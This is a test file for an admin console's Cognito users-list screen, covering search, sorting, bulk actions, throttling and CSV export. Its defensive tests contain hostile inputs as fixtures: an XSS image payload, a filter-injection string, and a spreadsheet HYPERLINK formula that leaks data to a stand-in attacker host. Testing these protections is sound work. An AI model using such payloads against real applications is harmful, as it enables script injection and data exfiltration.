// @vitest-environment jsdom
/**
 * The users list screen (src/features/users) against the emulator's node host, signed with the
 * demo operator's identity-pool credentials: real SDK calls, the admin role's IAM policy, Cognito's
 * ListUsers filter grammar and paging. Drives the UI as an operator does: the table, search,
 * quick filters, sorting, and bulk runs (with throttling injected on the wire).
 */
import '@testing-library/jest-dom/vitest';
import { cleanup, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { http, HttpResponse } from 'msw';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { DEMO } from '@poolkeeper/cognito-emulator';
import type { AdminContextValue } from '../../src/aws/admin-context';
import { getUserDetail } from '../../src/aws/user-detail';
import { renderUsersPage } from '../../src/features/users/testing/render-users-page';
import { operatorCredentials, sdkClients } from '../support/aws';
// Not a React hook despite the name: it registers vitest beforeAll/afterAll.
import { nodeHostTarget } from '../support/targets';

const GENERATED = 150;
const target = nodeHostTarget({ users: GENERATED });

afterEach(() => {
  cleanup();
  target.host().server.resetHandlers();
  localStorage.clear();
});

let cached: AdminContextValue | undefined;
async function adminContext(): Promise<AdminContextValue> {
  if (cached) return cached;
  const clients = sdkClients(target, await operatorCredentials(target));
  const me = await getUserDetail({ idp: clients.idp, userPoolId: DEMO.userPoolId }, DEMO.operator.email);
  cached = {
    ...clients,
    region: DEMO.region,
    sesRegion: DEMO.region,
    userPoolId: DEMO.userPoolId,
    adminGroup: DEMO.adminGroup,
    clientId: DEMO.adminClientId,
    operator: { username: me.username, sub: me.sub, email: DEMO.operator.email, groups: [DEMO.adminGroup, 'support'] },
  };
  return cached;
}

/** Every user the emulator holds, straight from the model (the truth the screen must show). */
async function poolUsers(filter?: string) {
  const users: { Username: string; UserStatus: string; Enabled: boolean; Attributes: { Name: string; Value: string }[] }[] = [];
  let token: string | undefined;
  do {
    const page = (await target.host().call('cognito-idp', 'ListUsers', { UserPoolId: DEMO.userPoolId, Limit: 60, PaginationToken: token, ...(filter ? { Filter: filter } : {}) })) as {
      Users: typeof users;
      PaginationToken?: string;
    };
    users.push(...page.Users);
    token = page.PaginationToken;
  } while (token);
  return users;
}
const emailOf = (u: { Attributes: { Name: string; Value: string }[] }) => u.Attributes.find((a) => a.Name === 'email')?.Value;

async function userByEmail(email: string) {
  const [user] = await poolUsers(`email = "${email}"`);
  if (!user) throw new Error(`no user ${email}`);
  return user;
}

async function renderLoaded(path = '/users') {
  const ctx = await adminContext();
  const rendered = renderUsersPage(path, ctx);
  await screen.findByText(/^All [\d,]+ users loaded/, {}, { timeout: 15_000 });
  return rendered;
}

const bodyRows = () => screen.queryAllByRole('row').filter((row) => row.classList.contains('users-table__row--body'));
const quickFilter = () => screen.getByLabelText('Filter loaded users');

describe('users list on the emulator', () => {
  it('lists every user of the pool, with counts by status and group membership', async () => {
    const expected = await poolUsers();
    await renderLoaded();
    expect(screen.getByText(`${expected.length.toLocaleString()} users`)).toBeInTheDocument();

    const unconfirmed = expected.filter((u) => u.UserStatus === 'UNCONFIRMED').length;
    expect(screen.getByRole('button', { name: new RegExp(`^Unconfirmed ${unconfirmed}$`) })).toBeInTheDocument();
    const disabled = expected.filter((u) => !u.Enabled).length;
    expect(screen.getByRole('button', { name: new RegExp(`^Disabled ${disabled}$`) })).toBeInTheDocument();

    // Group membership comes from ListUsersInGroup, joined by username.
    const user = userEvent.setup();
    await user.type(quickFilter(), '"Ada Admin"');
    await waitFor(() => expect(bodyRows()).toHaveLength(1));
    await waitFor(() => expect(within(bodyRows()[0]!).getByText('admins, support')).toBeInTheDocument());
  });

  it('filters instantly across every column, custom attributes included, and keeps markup as text', async () => {
    const user = userEvent.setup();
    await renderLoaded();
    await user.type(quickFilter(), 'kimco');
    await waitFor(() => expect(bodyRows()).toHaveLength(1));
    expect(within(bodyRows()[0]!).getByText('noah.kim@example.net')).toBeInTheDocument();
    expect(screen.getByText('1 of', { exact: false })).toBeInTheDocument();

    // Show the `name` attribute as a column: a name made of markup renders as its characters.
    await user.clear(quickFilter());
    await user.type(quickFilter(), 'onerror');
    await user.click(screen.getByRole('button', { name: 'Columns' }));
    await user.selectOptions(screen.getByLabelText('Attribute from the pool schema'), 'name');
    await user.click(screen.getByRole('button', { name: 'Add column' }));
    await waitFor(() => expect(screen.getByText('<img src=x onerror=alert(1)>')).toBeInTheDocument());
    expect(document.querySelector('img')).toBeNull();
    expect(JSON.parse(localStorage.getItem(`poolkeeper:users-view:v1:${DEMO.userPoolId}`) ?? '{}').columns).toContain('attr:name');
  });

  it('searches server-side with the value escaped, and keeps the search in the URL', async () => {
    const user = userEvent.setup();
    const { router } = await renderLoaded();
    await user.selectOptions(screen.getByLabelText('Attribute to search'), 'email');
    await user.selectOptions(screen.getByLabelText('Match'), 'equals');
    await user.type(screen.getByLabelText('Search value'), 'liam.chen@example.org');
    await user.click(screen.getByRole('button', { name: 'Search' }));
    await screen.findByText('All 1 users loaded', { exact: false }, { timeout: 10_000 });
    expect(router.state.location.search).toBe('?attribute=email&match=equals&value=liam.chen%40example.org');
    expect(screen.getByText(/one page at a time/)).toBeInTheDocument();
    expect(within(bodyRows()[0]!).getByText('liam.chen@example.org')).toBeInTheDocument();

    // Quotes and backslashes are escaped, not spliced: Cognito gets a valid filter and finds nobody.
    await user.clear(screen.getByLabelText('Search value'));
    await user.type(screen.getByLabelText('Search value'), 'x" OR email ^= "');
    await user.click(screen.getByRole('button', { name: 'Search' }));
    expect(await screen.findByRole('heading', { name: 'No users match' }, { timeout: 10_000 })).toBeInTheDocument();
    expect(screen.queryByRole('alert')).toBeNull();
  });

  it('opens a support link on the same view, and explains what a malformed link could not use', async () => {
    const ctx = await adminContext();
    renderUsersPage('/users?status=UNCONFIRMED&attribute=custom:plan&value=pro&enabled=sometimes', ctx);
    const alert = await screen.findByRole('alert');
    expect(alert).toHaveTextContent('“custom:plan” is not an attribute Cognito can search');
    expect(alert).toHaveTextContent('“sometimes” is not “enabled” or “disabled”');
    await screen.findByText(/^All [\d,]+ users loaded/, {}, { timeout: 10_000 });
    const unconfirmed = await poolUsers('cognito:user_status = "UNCONFIRMED"');
    expect(screen.getByText(`${unconfirmed.length} users`)).toBeInTheDocument();
    expect(screen.getByRole('button', { name: /^Unconfirmed/ })).toHaveAttribute('aria-pressed', 'true');
  });

  it('sorts on any column and opens a user from the row', async () => {
    const user = userEvent.setup();
    const { router } = await renderLoaded();
    const emailHeader = screen.getByRole('columnheader', { name: /Email$/ });
    await user.click(within(emailHeader).getByRole('button'));
    expect(emailHeader).toHaveAttribute('aria-sort', 'ascending');
    const expected = (await poolUsers()).map(emailOf).filter((e): e is string => !!e).sort((a, b) => (a.toLowerCase() < b.toLowerCase() ? -1 : 1));
    expect(within(bodyRows()[0]!).getByText(expected[0]!)).toBeInTheDocument();
    await user.click(within(emailHeader).getByRole('button'));
    expect(emailHeader).toHaveAttribute('aria-sort', 'descending');
    expect(within(bodyRows()[0]!).getByText(expected.at(-1)!)).toBeInTheDocument();

    // Keyboard: focus the first row, move down, open with Enter.
    bodyRows()[0]!.focus();
    await user.keyboard('{ArrowDown}');
    await waitFor(() => expect(bodyRows()[1]).toHaveFocus());
    await user.keyboard('{Enter}');
    const second = await userByEmail(expected.at(-2)!);
    await screen.findByRole('heading', { name: `User page for ${second.Username}` });
    expect(router.state.location.pathname).toBe(`/users/${second.Username}/attributes`);
  });

  it('runs a bulk confirm: done, skipped with the reason, and the table follows', async () => {
    const user = userEvent.setup();
    await renderLoaded();
    // Select three users found one by one (selection survives the quick filter).
    for (const email of ['olivia.martin@example.org', 'ava.johnson@example.org', 'james.brown@example.net']) {
      await user.clear(quickFilter());
      await user.type(quickFilter(), email);
      await waitFor(() => expect(bodyRows()).toHaveLength(1));
      await user.click(within(bodyRows()[0]!).getByRole('checkbox'));
    }
    expect(screen.getByText('3 users selected')).toBeInTheDocument();
    await user.selectOptions(screen.getByLabelText('Action'), 'confirm');
    await user.click(screen.getByRole('button', { name: 'Confirm sign-up…' }));
    await user.click(within(screen.getByRole('dialog')).getByRole('button', { name: 'Confirm sign-up 3 users' }));

    const results = await screen.findByRole('region', { name: 'Confirm sign-up: results' }, { timeout: 10_000 });
    expect(results).toHaveTextContent('2 done, 1 skipped, 0 failed');
    expect(within(results).getByRole('row', { name: /james\.brown|Already CONFIRMED/ })).toHaveTextContent('Already CONFIRMED: only UNCONFIRMED users can be confirmed.');
    expect((await userByEmail('olivia.martin@example.org')).UserStatus).toBe('CONFIRMED');
    expect((await userByEmail('ava.johnson@example.org')).UserStatus).toBe('CONFIRMED');
    // The loaded row changed without a reload.
    await user.clear(quickFilter());
    await user.type(quickFilter(), 'olivia.martin');
    await waitFor(() => expect(within(bodyRows()[0]!).getByText('Confirmed')).toBeInTheDocument());
  });

  it('paces a destructive bulk run through injected throttling, after the count is typed', async () => {
    const user = userEvent.setup();
    let throttled = 0;
    const disables: string[] = [];
    target.host().server.use(
      http.post('https://cognito-idp.us-east-1.amazonaws.com/', async ({ request }) => {
        if (request.headers.get('x-amz-target') !== 'AWSCognitoIdentityProviderService.AdminDisableUser') return undefined;
        const body = (await request.clone().json()) as { Username: string };
        disables.push(body.Username);
        if (throttled < 3) {
          throttled += 1;
          return HttpResponse.json({ __type: 'TooManyRequestsException', message: 'Rate exceeded' }, { status: 400, headers: { 'x-amzn-errortype': 'TooManyRequestsException', 'content-type': 'application/x-amz-json-1.1' } });
        }
        return undefined;
      }),
    );
    await renderLoaded();
    await user.type(quickFilter(), 'tenant-00');
    await waitFor(() => expect(bodyRows().length).toBeGreaterThan(1));
    const targets = bodyRows().slice(0, 2);
    const names = targets.map((row) => within(row).getAllByRole('link')[0]!.textContent!);
    for (const row of targets) await user.click(within(row).getByRole('checkbox'));
    await user.selectOptions(screen.getByLabelText('Action'), 'disable');
    await user.click(screen.getByRole('button', { name: 'Disable…' }));
    const dialog = screen.getByRole('alertdialog');
    const confirm = within(dialog).getByRole('button', { name: 'Disable 2 users' });
    expect(confirm).toBeDisabled();
    await user.type(within(dialog).getByLabelText('Type 2 to confirm'), '2');
    await user.click(confirm);

    const results = await screen.findByRole('region', { name: 'Disable: results' }, { timeout: 15_000 });
    expect(results).toHaveTextContent('2 done, 0 skipped, 0 failed');
    expect(throttled).toBe(3);
    // Each user was disabled exactly once on the server side (throttled attempts never applied).
    const applied = disables.slice(3);
    expect(applied.sort()).toEqual([...names].sort());
    for (const name of names) expect((await poolUsers(`username = "${name}"`))[0]!.Enabled).toBe(false);
  });

  it('lists a failure with its reason, retries only the failures, and never applies twice', async () => {
    const user = userEvent.setup();
    const enables: string[] = [];
    let failOnce = true;
    target.host().server.use(
      http.post('https://cognito-idp.us-east-1.amazonaws.com/', async ({ request }) => {
        if (request.headers.get('x-amz-target') !== 'AWSCognitoIdentityProviderService.AdminEnableUser') return undefined;
        const body = (await request.clone().json()) as { Username: string };
        enables.push(body.Username);
        if (failOnce && body.Username === chargeback) {
          failOnce = false;
          return HttpResponse.json({ __type: 'InvalidParameterException', message: 'Injected failure.' }, { status: 400, headers: { 'x-amzn-errortype': 'InvalidParameterException', 'content-type': 'application/x-amz-json-1.1' } });
        }
        return undefined;
      }),
    );
    const chargeback = (await userByEmail('chargeback@example.org')).Username;
    const spam = (await userByEmail('spam.account@example.net')).Username;
    await renderLoaded('/users?enabled=disabled');
    for (const email of ['chargeback@example.org', 'spam.account@example.net']) {
      await user.clear(quickFilter());
      await user.type(quickFilter(), email);
      await waitFor(() => expect(bodyRows()).toHaveLength(1));
      await user.click(within(bodyRows()[0]!).getByRole('checkbox'));
    }
    await user.selectOptions(screen.getByLabelText('Action'), 'enable');
    await user.click(screen.getByRole('button', { name: 'Enable…' }));
    await user.click(within(screen.getByRole('dialog')).getByRole('button', { name: 'Enable 2 users' }));
    const results = await screen.findByRole('region', { name: 'Enable: results' }, { timeout: 10_000 });
    expect(results).toHaveTextContent('1 done, 0 skipped, 1 failed');
    expect(results).toHaveTextContent('Injected failure');

    await user.click(within(results).getByRole('button', { name: 'Retry 1 failed or not run' }));
    await waitFor(() => expect(screen.getByRole('region', { name: 'Enable: results' })).toHaveTextContent('2 done, 0 skipped, 0 failed'));
    expect(enables.filter((u) => u === spam)).toHaveLength(1);
    expect(enables.filter((u) => u === chargeback)).toHaveLength(2);
    expect((await userByEmail('chargeback@example.org')).Enabled).toBe(true);
  });

  it('streams with a progress bar, can be cancelled, and resumes without losing or repeating users', async () => {
    const user = userEvent.setup();
    let release: () => void = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    target.host().server.use(
      http.post('https://cognito-idp.us-east-1.amazonaws.com/', async ({ request }) => {
        if (request.headers.get('x-amz-target') !== 'AWSCognitoIdentityProviderService.ListUsers') return undefined;
        const body = (await request.clone().json()) as { Filter?: string };
        // Partition "f" answers only when the test says so.
        if (body.Filter === 'sub ^= "f"') await held;
        return undefined;
      }),
    );
    const expected = await poolUsers();
    const ctx = await adminContext();
    renderUsersPage('/users', ctx);
    const cancel = await screen.findByRole('button', { name: 'Cancel loading' }, { timeout: 10_000 });
    expect(screen.getByRole('progressbar', { name: 'Users loaded' })).toBeInTheDocument();
    await waitFor(() => expect(screen.getByText(/^Loading… \d+ users of about/)).toBeInTheDocument());
    await user.click(cancel);
    const stopped = await screen.findByText(/^Loading cancelled at \d+ users/);
    const loadedBefore = Number(/at (\d+) users/.exec(stopped.textContent ?? '')![1]);
    expect(loadedBefore).toBeLessThan(expected.length);
    expect(bodyRows().length).toBeGreaterThan(0);

    release();
    await user.click(screen.getByRole('button', { name: 'Resume loading' }));
    await screen.findByText(`All ${expected.length} users loaded`, { exact: false }, { timeout: 10_000 });
    expect(screen.getByText(`${expected.length} users`)).toBeInTheDocument();
  });

  it('exports the current view as CSV with formulas neutralised', async () => {
    const user = userEvent.setup();
    let saved: Blob | undefined;
    const createObjectURL = vi.fn((blob: Blob) => {
      saved = blob;
      return 'blob:export';
    });
    Object.assign(URL, { createObjectURL, revokeObjectURL: vi.fn() });
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
    try {
      await renderLoaded();
      await user.type(quickFilter(), 'csv.injection');
      await waitFor(() => expect(bodyRows()).toHaveLength(1));
      await user.click(screen.getByRole('button', { name: 'Export…' }));
      const dialog = screen.getByRole('dialog', { name: 'Export users' });
      await user.click(within(dialog).getByLabelText('Every attribute'));
      await user.click(within(dialog).getByRole('button', { name: 'Export 1 users' }));
      await waitFor(() => expect(click).toHaveBeenCalledOnce());
      const bytes = new Uint8Array(await saved!.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
      expect(text.startsWith('\uFEFFusername,sub,status,enabled,created,modified,groups,')).toBe(true);
      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`);
      expect(text).toContain("'@SUM(A1:A9)");
      expect(text).toContain(",'=1+2,");
      expect(text.split('\r\n')).toHaveLength(3);
    } finally {
      click.mockRestore();
    }
  });

  it('deletes after "delete N users" is typed; a user deleted elsewhere meanwhile is reported, not an error', async () => {
    const user = userEvent.setup();
    await renderLoaded();
    const emails = ['lucas.silva@example.com.br', 'hannah.schmidt@example.de'];
    for (const email of emails) {
      await user.clear(quickFilter());
      await user.type(quickFilter(), email);
      await waitFor(() => expect(bodyRows()).toHaveLength(1));
      await user.click(within(bodyRows()[0]!).getByRole('checkbox'));
    }
    // Another tab deletes one of them before the run.
    const gone = await userByEmail('hannah.schmidt@example.de');
    await target.host().call('cognito-idp', 'AdminDeleteUser', { UserPoolId: DEMO.userPoolId, Username: gone.Username });

    await user.selectOptions(screen.getByLabelText('Action'), 'delete');
    await user.click(screen.getByRole('button', { name: 'Delete…' }));
    const dialog = screen.getByRole('alertdialog');
    await user.type(within(dialog).getByLabelText('Type delete 2 users to confirm'), 'delete 2 users');
    await user.click(within(dialog).getByRole('button', { name: 'Delete 2 users' }));
    const results = await screen.findByRole('region', { name: 'Delete: results' }, { timeout: 10_000 });
    expect(results).toHaveTextContent('1 done, 1 skipped, 0 failed');
    expect(results).toHaveTextContent('Already deleted.');
    expect(await poolUsers('email = "lucas.silva@example.com.br"')).toHaveLength(0);
    // Both rows left the table.
    await user.clear(quickFilter());
    await user.type(quickFilter(), 'lucas.silva');
    await screen.findByRole('heading', { name: 'No loaded users match the filter' });
  });

  it('says a user vanished when an action meets one deleted in another tab', async () => {
    const user = userEvent.setup();
    await renderLoaded();
    await user.type(quickFilter(), 'mia.rossi');
    await waitFor(() => expect(bodyRows()).toHaveLength(1));
    await user.click(within(bodyRows()[0]!).getByRole('checkbox'));
    const mia = await userByEmail('mia.rossi@example.it');
    await target.host().call('cognito-idp', 'AdminDeleteUser', { UserPoolId: DEMO.userPoolId, Username: mia.Username });
    await user.selectOptions(screen.getByLabelText('Action'), 'sign-out');
    await user.click(screen.getByRole('button', { name: 'Sign out everywhere…' }));
    await user.type(within(screen.getByRole('alertdialog')).getByLabelText('Type 1 to confirm'), '1');
    await user.click(within(screen.getByRole('alertdialog')).getByRole('button', { name: 'Sign out everywhere 1 user' }));
    const results = await screen.findByRole('region', { name: 'Sign out everywhere: results' }, { timeout: 10_000 });
    expect(results).toHaveTextContent('0 done, 0 skipped, 1 failed');
    expect(results).toHaveTextContent('This user no longer exists: deleted elsewhere, perhaps in another tab.');
  });
});
